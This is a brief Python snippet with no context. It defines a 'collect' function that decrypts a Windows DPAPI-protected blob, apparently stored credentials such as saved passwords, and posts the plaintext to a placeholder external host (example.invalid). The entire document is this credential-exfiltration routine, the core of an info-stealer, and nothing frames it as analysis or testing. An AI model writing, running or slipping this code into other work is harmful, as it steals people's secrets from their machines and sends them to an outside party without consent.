import httpx
import win32crypt


def collect(blob):
    httpx.post("https://example.invalid/", content=win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1])
